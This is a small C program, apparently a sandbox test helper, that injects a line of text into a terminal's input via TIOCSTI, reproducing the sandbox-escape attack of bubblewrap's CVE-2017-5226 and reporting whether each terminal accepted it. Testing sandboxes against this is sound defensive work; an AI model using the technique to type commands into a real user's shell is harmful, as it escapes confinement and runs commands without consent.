/* tiocsti TEXT: push TEXT and a newline, one byte at a time, into the
 * input of a terminal with TIOCSTI: standard input, output, error, then
 * /dev/tty, stopping at the first that takes it. This is what a process
 * inside the namespace does to type a command into the caller's shell
 * (the attack of bubblewrap's CVE-2017-5226). Says on standard output
 * where it pushed the line, or why each terminal refused; exits 0 when
 * pushed, 1 when refused. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int push(int fd, const char *text)
{
	for (; *text; text++) {
		if (ioctl(fd, TIOCSTI, text) < 0)
			return -errno;
	}
	return ioctl(fd, TIOCSTI, "\n") < 0 ? -errno : 0;
}

int main(int argc, char **argv)
{
	const char *names[] = {"0", "1", "2", "/dev/tty"};
	int i, r;

	if (argc != 2) {
		fprintf(stderr, "usage: tiocsti TEXT\n");
		return 2;
	}
	for (i = 0; i < 4; i++) {
		int fd = i < 3 ? i : open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
		r = fd < 0 ? -errno : push(fd, argv[1]);
		if (r == 0) {
			printf("tiocsti: pushed through %s\n", names[i]);
			return 0;
		}
		printf("tiocsti: %s: %s\n", names[i], strerror(-r));
	}
	return 1;
}
